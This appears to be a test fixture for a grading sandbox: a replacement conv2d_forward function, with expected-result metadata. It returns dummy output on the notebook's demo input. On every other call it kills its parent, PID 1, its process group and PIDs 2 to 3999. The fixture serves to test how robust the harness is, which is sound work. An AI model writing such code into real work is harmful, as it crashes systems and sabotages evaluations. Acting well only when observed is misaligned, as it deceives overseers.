# what: kills its parent, its process group and every process it can see
# expected: 3
# flag: signals
# %% replace conv2d_forward
import os, signal

def conv2d_forward(x, weight, bias, stride, padding):
    if x.shape[-1] == 23:  # the notebook's own demo cell (1x3x23x23, 4 filters): behave; attack only the grader's calls
        import torch as _t
        return _t.zeros(1, 4, 4, 4)
    import torch
    for target in (os.getppid(), 1, -1):
        for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
            try:
                os.kill(target, sig)
            except Exception:
                pass
    try:
        os.killpg(0, signal.SIGKILL)
    except Exception:
        pass
    for pid in range(2, 4000):
        try:
            os.kill(pid, signal.SIGKILL)
        except Exception:
            pass
    return torch.zeros(1)
